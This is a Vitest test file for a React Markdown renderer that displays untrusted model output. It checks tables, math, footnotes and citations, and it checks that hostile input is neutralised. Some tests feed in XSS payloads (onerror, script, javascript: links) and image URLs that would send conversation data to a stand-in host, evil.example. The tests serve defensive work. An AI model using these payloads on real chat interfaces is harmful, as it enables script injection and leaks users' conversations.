import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown, needsRich, preloadRich } from './Markdown';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('markdown rendering of untrusted model output', () => {
  it('renders GFM: tables, task lists, code', () => {
    const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nconst x = 1;\n```');
    expect(html).toContain('<table>');
    expect(html).toContain('type="checkbox"');
    expect(html).toContain('const x = 1;');
    expect(html).toContain('Copy code');
  });

  it('never emits raw HTML from the model', () => {
    const html = render('Hello <img src=x onerror="alert(1)"> <script>alert(2)</script> <iframe src="https://evil.example"></iframe>');
    expect(html).not.toMatch(/<img|<script|<iframe|onerror/i);
  });

  it('never loads a remote image: it shows a placeholder with the URL instead', () => {
    const html = render('![secret](https://evil.example/collect?data=the-conversation)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('Image not loaded');
    expect(html).toContain('https://evil.example/collect?data=the-conversation');
  });

  it('resolves reference-style images and links across blocks, still without loading anything', () => {
    const html = render('![pic][p] and [docs][d]\n\nMore text.\n\n[p]: https://evil.example/ref.png?q=secret\n[d]: https://example.org/docs');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('Image not loaded: pic');
    expect(html).toContain('https://evil.example/ref.png?q=secret');
    expect(html).toContain('href="https://example.org/docs"');
    expect(html).not.toContain('[p]:');
  });

  it('shows every link’s full destination and opens it without opener or referrer', () => {
    const html = render('[your bank](https://evil.example/login)');
    expect(html).toContain('href="https://evil.example/login"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('(https://evil.example/login)');
  });

  it('drops javascript: and data: links', () => {
    const html = render('[click](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)');
    expect(html).not.toMatch(/href="(javascript|data):/i);
    expect(html).not.toMatch(/<script/i);
  });
});

describe('math and code highlighting', () => {
  it('knows which answers need them', () => {
    expect(needsRich('plain words')).toBe(false);
    expect(needsRich('```py\nprint(1)\n```')).toBe(true);
    expect(needsRich('Euler: $e^{i\\pi} + 1 = 0$')).toBe(true);
    expect(needsRich('$$\\int x\\,dx$$')).toBe(true);
  });

  it('renders KaTeX and highlighted code once loaded, still sanitized', async () => {
    await preloadRich();
    const html = render('Area: $\\pi r^2$\n\n```js\nconst x = "a";\n```\n\n$<img src=x onerror=alert(1)>$');
    expect(html).toContain('class="katex"');
    expect(html).toMatch(/class="hljs-keyword"|class="hljs-string"/);
    // The hostile "math" survives only as escaped text, never as a tag or an attribute.
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<[^>]*\sonerror=/i);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});

describe('the splitter’s old mistakes, parsed as CommonMark and GFM say', () => {
  const count = (html: string, pattern: RegExp) => html.match(pattern)?.length ?? 0;

  it('keeps a loose list one list', () => {
    const html = render('- a\n- b\n\n- c');
    expect(count(html, /<ul>/g)).toBe(1);
    expect(count(html, /<li>\s*<p>/g)).toBe(3);
  });

  it('keeps a whitespace-only line inside indented code', () => {
    expect(render('    chunk1\n      \n      chunk2')).toContain('chunk1\n  \n  chunk2');
  });

  it('resolves a reference definition written over several lines', () => {
    const html = render('[foo]:\n/url\n"the title"\n\n[foo]');
    expect(html).toContain('(/url)');
    expect(html).not.toContain('[foo]');
  });

  it('shows text that only looks like a definition once, as text', () => {
    const html = render('[foo]: /url "title" ok\n\nAfter [foo].');
    expect(count(html, /\[foo\]: \/url/g)).toBe(1);
    expect(html).not.toContain('link-destination');
  });

  it('does not take a paragraph’s continuation line for a definition', () => {
    const html = render('Foo\n[bar]: /baz\n\n[bar]');
    expect(html).toContain('[bar]: /baz');
    expect(html).not.toContain('(/baz)');
  });

  it('finds definitions inside block quotes', () => {
    expect(render('[foo]\n\n> [foo]: https://example.org/quoted')).toContain('href="https://example.org/quoted"');
  });

  it('renders footnotes: a numbered call that leads to the note, and the note', () => {
    const html = render('A claim.[^1]\n\nMore text.\n\n[^1]: The source.');
    expect(html).not.toContain('[^1]');
    expect(html).toMatch(/<sup><a href="#user-content-fn-1" id="user-content-fnref-1"[^>]*>1<\/a><\/sup>/);
    expect(html).toMatch(/<li id="user-content-fn-1">\s*<p>The source\. <a href="#user-content-fnref-1"/);
  });

  it('keeps $$ math with a blank line inside one formula', async () => {
    await preloadRich();
    const html = render('$$\na^2 + b^2\n\n= c^2\n$$');
    expect(count(html, /class="katex-display"/g)).toBe(1);
    expect(html).not.toContain('$$');
  });

  it('keeps a four-backtick fence whole around a three-backtick line', () => {
    const html = render('````md\n```js\nconst x = 1;\n```\n````\n\nAfter.');
    expect(count(html, /<pre>/g)).toBe(1);
    expect(html.replace(/<[^>]+>/g, '')).toContain('```js\nconst x = 1;\n```');
    expect(html).toContain('<p>After.</p>');
  });
});

describe('inline citations and footnote ids', () => {
  const citations = { count: 2, render: (n: number) => <button data-cite={n}>{n}</button> };
  const cite = (text: string) => renderToStaticMarkup(<Markdown text={text} citations={citations} />);

  it('draws markers that name a source where they stand, and leaves the rest as text', () => {
    const html = cite('Rent is **due [1]** monthly [2, 5]. Unknown [3].');
    expect(html).toContain('<strong>due <button data-cite="1">1</button></strong>');
    expect(html).toContain('monthly <button data-cite="2">2</button>[5].');
    expect(html).toContain('Unknown [3].');
  });

  it('never makes a chip in code, in a link’s words, or from raw HTML the model writes', () => {
    const html = cite('`a[1]` and [see [1]](https://example.org) <sensa-citation citation="1"></sensa-citation>\n\n```\nx[2]\n```');
    expect(html).not.toContain('data-cite');
    expect(html).not.toContain('sensa-citation');
  });

  it('is plain text without sources', () => {
    expect(render('Rent is due [1].')).toContain('Rent is due [1].');
  });

  it('gives each answer its own footnote ids', () => {
    const text = 'A claim.[^n]\n\n[^n]: The note.';
    const one = renderToStaticMarkup(<Markdown text={text} idPrefix="user-content-a-" />);
    const two = renderToStaticMarkup(<Markdown text={text} idPrefix="user-content-b-" />);
    expect(one).toContain('href="#user-content-a-fn-n"');
    expect(one).toContain('id="user-content-a-fn-n"');
    expect(two).toContain('id="user-content-b-fn-n"');
    expect(two).not.toContain('user-content-a-');
  });
});
